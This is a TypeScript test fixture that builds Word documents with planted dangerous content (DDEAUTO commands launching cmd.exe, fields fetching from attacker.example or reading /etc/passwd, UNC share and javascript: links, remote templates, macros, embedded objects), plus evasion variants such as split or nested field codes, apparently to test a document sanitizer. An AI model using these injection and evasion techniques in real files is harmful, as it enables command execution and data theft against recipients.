import { docxFile, paragraph } from '../support/docx-file.ts'
import * as f from './docx-fragments.ts'

/** Content that must not reach the other side, placed in a run or around runs of a paragraph. */
export interface Planted {
  content: string
  /** Relationships of the part that contains it. */
  rows?: string[]
  files?: Record<string, string>
  /** The kind that is reported; null if it is removed without a report. */
  kind: string | null
}

const inField = (code: string) => f.mark('begin') + code + f.mark('separate') + f.text('result') + f.mark('end')
const field = (code: string, kind = 'field'): Planted => ({ content: inField(f.instruction(code)), kind })
const outside = (type: string, target: string) => [f.relationship('rIdX', type, target, true)]
const inside = (type: string, name: string, content = 'x') => ({
  rows: [f.relationship('rIdX', type, `/word/${name}`)],
  files: { [`word/${name}`]: content },
})
const choice = (first: string, second: string) =>
  `<mc:AlternateContent ${f.declared}><mc:Choice Requires="wps">${first}</mc:Choice><mc:Fallback>${second}</mc:Fallback></mc:AlternateContent>`
const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main'
const link = (target: string): Planted => ({
  content: `<w:hyperlink r:id="rIdX">${f.text('click')}</w:hyperlink>`,
  rows: outside('hyperlink', target),
  kind: 'link',
})
const deleted = (content: string) => `<w:del w:id="91" w:author="Dana" w:date="2026-01-01T00:00:00Z">${content}</w:del>`
const deletedCode = (code: string) => f.run(`<w:delInstrText>${code}</w:delInstrText>`)
const inserted = (content: string, author = 'Dana') =>
  `<w:ins w:id="92" w:author="${author}" w:date="2026-01-01T00:00:00Z">${content}</w:ins>`
const evil = 'DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;'

export const planted: Record<string, Planted> = {
  DDEAUTO: field(` ${evil} `),
  'DDE in small letters': field('dde excel &quot;c:\\\\x.xls&quot; r1c1'),
  'a picture that is fetched': field(' INCLUDEPICTURE &quot;http://attacker.example/pixel.png&quot; \\d '),
  'text of a file': field('INCLUDETEXT &quot;file:///etc/passwd&quot;'),
  'a link to a share': field('LINK Excel.Sheet.12 &quot;\\\\\\\\attacker\\\\share\\\\x.xlsx&quot; A1 \\a'),
  'an embedded object as a field': field('EMBED Package'),
  'a database': field('DATABASE \\d &quot;c:\\\\x.mdb&quot;'),
  'a text block of the machine': field('AUTOTEXT Signature', 'property'),
  'the user of the machine': field('USERNAME', 'property'),
  'the place of the file': field('FILENAME \\p', 'property'),
  'a property': field('DOCPROPERTY Matter', 'property'),
  'an unknown field': field('WHATEVER x'),
  'a button for a macro': {
    // word processors store no result for it
    content: f.mark('begin') + f.instruction('MACROBUTTON Evil Click here') + f.mark('end'),
    kind: 'field',
  },
  'a field that is a link to a file': field('HYPERLINK &quot;file:///c:/x.exe&quot;', 'link'),
  'a field that is two links': field('HYPERLINK &quot;https://a.example&quot; &quot;file:///c:/x.exe&quot;', 'link'),
  'a link that another field makes': {
    content: inField(f.instruction('HYPERLINK ') + inField(f.instruction('QUOTE &quot;x.exe&quot;'))),
    kind: 'link',
  },
  'a code in pieces': { content: inField(['DD', 'EAU', 'TO x y'].map(f.instruction).join('')), kind: 'field' },
  'a code in a code': {
    content: inField(f.instruction('IF 1 = 1 ') + inField(f.instruction(evil))),
    kind: 'field',
  },
  'a name that another field makes': {
    content: inField(inField(f.instruction('QUOTE &quot;DDE&quot;')) + f.instruction('AUTO x y')),
    kind: 'field',
  },
  'a code that is text': { content: inField(f.text('DDEAUTO x y')), kind: 'field' },
  'a code behind text': { content: inField(f.text('PAGE ') + f.instruction('DDEAUTO x y')), kind: 'field' },
  'a simple field': { content: `<w:fldSimple w:instr=" ${evil} ">${f.text('result')}</w:fldSimple>`, kind: 'field' },
  'a deleted field': {
    content: deleted(f.mark('begin') + deletedCode(evil) + f.mark('separate') + f.mark('end')),
    kind: 'field',
  },
  'a code that a rejected change leaves': {
    content:
      f.mark('begin') + inserted(f.instruction('REF ')) + f.instruction(evil) + f.mark('separate') + f.mark('end'),
    kind: 'field',
  },
  'a code that two decisions make': {
    content:
      f.mark('begin') +
      f.instruction('L') +
      inserted(f.instruction('ISTNUM ')) +
      deleted(deletedCode('ISTNUM ')) +
      f.instruction('INK x y') +
      f.mark('separate') +
      f.mark('end'),
    kind: 'field',
  },
  'a field without an end': { content: f.mark('begin') + f.instruction(evil), kind: 'field' },
  'a code without a field': { content: f.instruction(evil), kind: null },
  'a code of one alternative': {
    content: inField(f.run(choice(`<w:instrText>${evil}</w:instrText>`, '<w:instrText>PAGE</w:instrText>'))),
    kind: 'field',
  },
  'a field in a fallback': { content: choice(f.text('result'), inField(f.instruction(evil))), kind: 'field' },
  'another prefix': {
    content: inField(f.instruction(evil))
      .replace(/<(\/?)w:/g, '<$1q:')
      .replace(/ w:/g, ' q:')
      .replaceAll('<q:r>', `<q:r xmlns:q="${w}">`),
    kind: 'field',
  },
  'the strict namespace': {
    content: inField(f.instruction(evil))
      .replace(/<(\/?)w:/g, '<$1q:')
      .replace(/ w:/g, ' q:')
      .replaceAll('<q:r>', `<q:r xmlns:q="${strict}">`),
    kind: 'field',
  },
  'a macro of a form field': {
    content:
      f.run(
        '<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar>',
      ) +
      f.instruction('FORMTEXT') +
      f.mark('separate') +
      f.mark('end'),
    kind: 'macros',
  },
  'a link to a file': link('file:///c:/x.exe'),
  'a link to a share of the network': link('\\\\attacker\\share'),
  'a link to a script': link('javascript:alert(1)'),
  'a link to another program': link('ms-word:ofe|u|http://attacker.example/x.docx'),
  'a link of a drawing': {
    content: f
      .drawn('<a:blip/>')
      .replace('name="x"/><pic:cNvPicPr', 'name="x"><a:hlinkClick r:id="rIdX"/></pic:cNvPr><pic:cNvPicPr'),
    rows: outside('hyperlink', 'file:///c:/x'),
    kind: 'link',
  },
  'a link of a shape': {
    content: f.vmlPicture('').replace('<v:shape ', '<v:shape href="file:///c:/x" '),
    kind: 'link',
  },
  'a linked picture': {
    content: f.drawn('<a:blip r:link="rIdX"/>'),
    rows: outside('image', 'http://attacker.example/p.png'),
    kind: 'picture',
  },
  'a picture elsewhere': {
    content: f.picture('rIdX'),
    rows: outside('image', 'http://attacker.example/p.png'),
    kind: 'picture',
  },
  'a picture elsewhere in VML': { content: f.vmlPicture('src="http://attacker.example/p.png"'), kind: 'picture' },
  'a picture elsewhere in VML by name': {
    content: f.vmlPicture('r:href="rIdX"'),
    rows: outside('image', 'http://attacker.example/p.png'),
    kind: 'picture',
  },
  'a fill elsewhere': { content: f.vmlFill('src="\\\\attacker\\p.png"'), kind: 'picture' },
  'a picture that is a page of HTML': {
    content: f.picture('rIdX'),
    ...inside('image', 'media/a.png', '<html/>'),
    kind: 'picture',
  },
  'a package': {
    content: f.oleObject('Type="Embed" r:id="rIdX"'),
    ...inside('package', 'embeddings/a.docx'),
    kind: 'object',
  },
  'an object': {
    content: f.oleObject('Type="Embed" r:id="rIdX"'),
    ...inside('oleObject', 'embeddings/a.bin'),
    kind: 'object',
  },
  'a linked object': {
    content: f.oleObject('Type="Link" UpdateMode="Always" r:id="rIdX"'),
    rows: outside('oleObject', 'file:///c:/x.xls'),
    kind: 'object',
  },
  'a control': {
    content: f.run('<w:object><w:control r:id="rIdX" w:name="A"/></w:object>'),
    ...inside('control', 'activeX/a.xml', '<x/>'),
    kind: 'control',
  },
  'a film': {
    content: f.run('<w:pict><w:movie r:id="rIdX"/></w:pict>'),
    rows: outside('video', 'http://attacker.example/v.mp4'),
    kind: 'media',
  },
  'a video of the web': {
    content: f
      .drawn('<a:blip/>')
      .replace(
        'name="x"/><a:graphic>',
        'name="x"><a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><v15:webVideoPr xmlns:v15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://attacker.example/&quot;&gt;" h="1" w="1"/></a:ext></a:extLst></wp:docPr><a:graphic>',
      ),
    kind: 'media',
  },
  ink: { content: f.run('<w:contentPart r:id="rIdX"/>'), ...inside('customXml', 'ink/a.xml', '<ink/>'), kind: 'part' },
  'bound data': {
    content: `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent>${f.text('bound')}</w:sdtContent></w:sdt>`,
    kind: 'data',
  },
  'a smart tag': {
    content: `<w:smartTag w:uri="urn:x" w:element="y"><w:smartTagPr><w:attr w:name="secret" w:val="x"/></w:smartTagPr>${f.text('tag')}</w:smartTag>`,
    kind: 'data',
  },
  'save ids': { content: '<w:r w:rsidR="00ABCDEF" w:rsidRPr="00ABCDEF"><w:t>saved</w:t></w:r>', kind: 'people' },
  'the drawing in another format': {
    content: f.vmlPicture('').replace('<v:shape ', '<v:shape o:gfxdata="UEsDBBQ" '),
    kind: null,
  },
  'a script called a picture by its relationship': {
    content: f.text('x'),
    ...inside('image', 'media/evil.bin', 'alert(1)'),
    kind: 'picture',
  },
  'macros by their relationship': {
    content: f.text('x'),
    rows: [
      f.relationship(
        'rIdX',
        'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
        '/word/vbaProject.bin',
      ),
    ],
    files: { 'word/vbaProject.bin': 'x' },
    kind: 'macros',
  },
  'a part by an odd relationship': {
    content: f.text('x'),
    rows: [f.relationship('rIdX', 'urn:odd/footnotes', '/word/odd.xml')],
    files: { 'word/odd.xml': '<x/>' },
    kind: 'part',
  },
}

/**
 * The places where content can be planted. `file` makes a DOCX with the content in that place, and `words` matches the
 * description of the place that members see.
 */
export const places: Record<
  string,
  { words: RegExp; file(planted: Pick<Planted, 'content' | 'rows' | 'files'>): Uint8Array }
> = {
  body: { words: /^“Here/, file: planted => documentOf(planted, {}) },
  'table cell': {
    words: /^“Here/,
    file: planted =>
      documentOf(planted, {
        around: one =>
          `<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>${one}</w:tc></w:tr></w:tbl><w:p/>`,
      }),
  },
  'text box': {
    words: /^text box “Here/,
    file: planted =>
      documentOf(planted, {
        around: one => f.para(f.run(choice(textBox(one), textBox(one)))),
      }),
  },
  header: partPlace(
    'header',
    'hdr',
    one => one,
    '<w:sectPr><w:headerReference w:type="default" r:id="rId1"/></w:sectPr>',
  ),
  footnote: partPlace(
    'footnotes',
    'footnotes',
    one => `<w:footnote w:id="2">${one}</w:footnote>`,
    f.para(f.run('<w:footnoteReference w:id="2"/>')),
  ),
  comment: partPlace(
    'comments',
    'comments',
    one => `<w:comment w:id="5" w:author="Dana" w:initials="D">${one}</w:comment>`,
    f.para(f.run('<w:commentReference w:id="5"/>')),
  ),
  'building block': partPlace(
    'glossaryDocument',
    'glossaryDocument',
    one => `<w:docParts><w:docPart><w:docPartPr/><w:docPartBody>${one}</w:docPartBody></w:docPart></w:docParts>`,
    '',
    'glossary/document',
  ),
}

const textBox = (content: string) =>
  f
    .filledShape('rIdNone')
    .replace(/<a:blipFill>.*<\/a:blipFill>/, '')
    .replace('<wps:bodyPr/>', `<wps:txbx><w:txbxContent>${content}</w:txbxContent></wps:txbx><wps:bodyPr/>`)
    .replace(/^<w:r>|<\/w:r>$/g, '')

const here = (content: string) => f.para(f.text('Here ') + content)

function documentOf(
  { content, rows = [], files = {} }: Pick<Planted, 'content' | 'rows' | 'files'>,
  { around = (one: string) => one },
): Uint8Array {
  return docxFile({
    body: `${paragraph('First.')}${around(here(content))}`,
    files: { 'word/_rels/document.xml.rels': f.relationships(...rows), ...files },
  })
}

function partPlace(type: string, root: string, around: (content: string) => string, body: string, name = `${type}1`) {
  const words = { header: 'header', footnotes: 'footnote', comments: 'comment', glossaryDocument: 'building block' }[
    type
  ]
  return {
    words: new RegExp(`^${words} “Here`),
    file: ({ content, rows = [], files = {} }: Pick<Planted, 'content' | 'rows' | 'files'>) =>
      f.withPart(
        paragraph('First.') + body,
        {
          type,
          name: `${name}.xml`,
          xml: `<w:${root} ${f.declared}>${around(here(content))}</w:${root}>`,
          contentType: f.word(type === 'glossaryDocument' ? 'document.glossary' : type),
          rows,
        },
        files,
      ),
  }
}

/** Content planted in a document as a whole. */
export const plantedParts: Record<string, { kind: string | null; file: Uint8Array }> = {
  'a template elsewhere': {
    kind: 'template',
    file: settings(
      '<w:attachedTemplate r:id="rId1"/><w:linkStyles/>',
      f.relationship('rId1', 'attachedTemplate', 'http://attacker.example/x.dotm', true),
    ),
  },
  'a template that only its relationship names': {
    kind: 'template',
    file: settings('<w:zoom/>', f.relationship('rId1', 'attachedTemplate', 'file:///x/evil.dotm', true)),
  },
  'a mail merge': {
    kind: 'mailMerge',
    file: settings(
      '<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>',
      f.relationship('rId1', 'mailMergeSource', 'file:///c:/x.csv', true),
    ),
  },
  'a style sheet to save through': {
    kind: 'part',
    file: settings('<w:saveThroughXslt r:id="rId1"/>', f.relationship('rId1', 'transform', 'file:///c:/x.xsl', true)),
  },
  'variables and save ids': {
    kind: 'data',
    file: settings(
      '<w:docVars><w:docVar w:name="Matter" w:val="secret"/></w:docVars><w:rsids><w:rsid w:val="00ABCDEF"/></w:rsids>',
    ),
  },
  'a page of frames': {
    kind: 'part',
    file: f.withPart(paragraph('text'), {
      type: 'webSettings',
      name: 'webSettings.xml',
      xml: `<w:webSettings ${f.declared}><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
      contentType: f.word('webSettings'),
      rows: [f.relationship('rId1', 'frame', 'http://attacker.example/x.html', true)],
    }),
  },
  'a second document': {
    kind: 'part',
    file: packaged(
      'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument',
      'word/odd.xml',
      `<w:document ${f.declared}><w:body/></w:document>`,
    ),
  },
  'an add-in': {
    kind: 'part',
    file: packaged(
      'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
      'word/webextensions/taskpanes.xml',
    ),
  },
  properties: {
    kind: 'people',
    file: packaged(
      'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
      'docProps/core.xml',
    ),
  },
  data: {
    kind: 'data',
    file: docxFile({
      relationships: [{ type: 'customXml', target: '../customXml/item1.xml' }],
      files: { 'customXml/item1.xml': '<secret/>' },
    }),
  },
  people: {
    kind: 'people',
    file: docxFile({
      relationships: [{ type: 'http://schemas.microsoft.com/office/2011/relationships/people', target: 'people.xml' }],
      files: { 'word/people.xml': '<x/>' },
    }),
  },
  macros: {
    kind: 'macros',
    file: docxFile({
      mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      relationships: [
        { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
      ],
      files: { 'word/vbaProject.bin': 'x' },
    }),
  },
  'a Word template': {
    kind: 'wordTemplate',
    file: docxFile({ mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
  },
  'a part to which nothing leads': { kind: null, file: docxFile({ files: { 'word/vbaProject.bin': 'x' } }) },
}

function settings(xml: string, ...rows: string[]): Uint8Array {
  return f.withPart(paragraph('text'), {
    type: 'settings',
    name: 'settings.xml',
    xml: `<w:settings ${f.declared}>${xml}</w:settings>`,
    contentType: f.word('settings'),
    rows,
  })
}

function packaged(type: string, name: string, content = '<x/>'): Uint8Array {
  const document = f.relationship('rId1', 'officeDocument', 'word/document.xml')
  return docxFile({
    files: { '_rels/.rels': f.relationships(document, f.relationship('rId2', type, name)), [name]: content },
  })
}
